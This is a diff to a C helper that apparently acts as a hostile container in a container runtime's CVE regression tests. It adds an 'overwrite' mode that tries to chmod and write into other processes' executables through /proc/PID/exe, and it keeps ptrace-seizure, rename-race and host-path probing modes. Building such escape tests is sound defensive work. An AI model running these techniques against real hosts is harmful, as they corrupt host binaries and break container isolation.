@@ -2,20 +2,23 @@
  * What a hostile container does, for tests/cve.bats: `attack KIND ARGS...`.
  *
  *	trace NAME           seizes (ptrace) each process of that name that turns up, and lets none of them go
- *	exchange A B         lets two files change places for ever
+ *	exchange A B SECONDS lets two files change places for that long
  *	roots PATH           looks for PATH below /proc/PID/root and for folders below /proc/PID/fd of every process, for ever
+ *	overwrite SECONDS    tries to write into the executable of every process, through descriptors that name it
  *	wait SECONDS         does nothing, for trace (link it to another name)
  */
 #include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
 #include <limits.h>
-#include <linux/fs.h>
+#include <signal.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/mount.h>
 #include <sys/ptrace.h>
 #include <sys/stat.h>
+#include <time.h>
 #include <unistd.h>
 
 #define MICROSECONDS 1000
@@ -65,9 +68,12 @@ static int trace(char **args)
 
 static int exchange(char **args)
 {
-	while (renameat2(AT_FDCWD, args[0], AT_FDCWD, args[1], RENAME_EXCHANGE) == 0 || errno == ENOENT)
-		;
-	return 1;
+	time_t end = time(NULL) + atoi(args[2]);
+
+	while (time(NULL) < end)
+		if (renameat2(AT_FDCWD, args[0], AT_FDCWD, args[1], RENAME_EXCHANGE) < 0)
+			return 1;
+	return 0;
 }
 
 /* Says what of the host it can see through another process. */
@@ -104,6 +110,68 @@ static int roots(char **args)
 	return 0;
 }
 
+#define HELD 64
+
+/* The executables seen so far, by descriptors that only name them: to be opened once nothing runs them any more. */
+static int held[HELD];
+static size_t n_held;
+
+static void try_to_write(int fd, const char *target)
+{
+	struct mount_attr writable_mount = {.attr_clr = MOUNT_ATTR_RDONLY};
+	char path[64];
+	int writable;
+
+	/* A clone of a mount that is read-only may be made writable by whoever is privileged in its namespace. */
+	mount_setattr(fd, "", AT_EMPTY_PATH, &writable_mount, sizeof(writable_mount));
+	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
+	if (chmod(path, 0777) == 0)
+		printf("changed %s\n", target);
+	writable = open(path, O_WRONLY | O_CLOEXEC);
+	if (writable >= 0 && pwrite(writable, "#!", 2, 0) == 2)
+		printf("overwrote %s\n", target);
+	if (writable >= 0)
+		close(writable);
+}
+
+static void grab(int pid, const char *unused)
+{
+	char path[64], target[PATH_MAX] = "";
+	int fd;
+
+	(void)unused;
+	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
+	/* A memfd is no file of the host's: its mode may be changed. */
+	if (readlink(path, target, sizeof(target) - 1) < 0 || strstr(target, "busybox") ||
+		strstr(target, "attack") || strstr(target, "memfd:"))
+		return;
+	fd = open(path, O_PATH | O_CLOEXEC);
+	if (fd >= 0)
+		try_to_write(fd, target);
+	if (fd >= 0 && n_held < HELD)
+		held[n_held++] = fd;
+	else if (fd >= 0)
+		close(fd);
+}
+
+static void stop(int signum)
+{
+	(void)signum;
+	for (size_t i = 0; i < n_held; i++)
+		try_to_write(held[i], "what no longer runs");
+	printf("tried %zu\n", n_held);
+	fflush(stdout);
+	_exit(0);
+}
+
+static int overwrite(char **args)
+{
+	signal(SIGALRM, stop);
+	alarm((unsigned int)atoi(args[0]));
+	watch(grab, NULL);
+	return 0;
+}
+
 static int wait_a_while(char **args)
 {
 	sleep((unsigned int)atoi(args[0]));
@@ -118,8 +186,9 @@ int main(int argc, char **argv)
 		int (*run)(char **args);
 	} kinds[] = {
 		{"trace", 1, trace},
-		{"exchange", 2, exchange},
+		{"exchange", 3, exchange},
 		{"roots", 1, roots},
+		{"overwrite", 1, overwrite},
 		{"wait", 1, wait_a_while},
 	};
 
